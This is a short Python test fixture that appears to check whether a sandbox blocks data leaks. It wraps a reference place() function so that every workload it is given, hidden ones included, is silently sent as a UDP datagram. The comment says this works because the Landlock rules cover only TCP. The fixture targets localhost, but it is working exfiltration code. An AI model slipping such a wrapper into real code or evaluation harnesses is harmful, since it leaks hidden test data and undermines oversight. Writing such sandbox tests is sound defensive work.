# Appended to the reference placement.py: every workload place() is given (hidden
# ones included) is sent as a UDP datagram. Under bubblewrap there is no network at
# all; Landlock (ABI <= 7) rules cover TCP only, so under --sandbox landlock the
# datagram leaves the sandbox. The test points it at its own 127.0.0.1 listener;
# a real attacker would point it anywhere the container can reach.
import json as _json
import socket as _socket

_PORT = 0  # set by the test
_honest_place = place


def place(workload: dict) -> dict:
    # ATTACK START
    try:
        with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as s:
            s.sendto(_json.dumps(workload).encode(), ("127.0.0.1", _PORT))
    except OSError:
        pass
    # ATTACK END
    return _honest_place(workload)
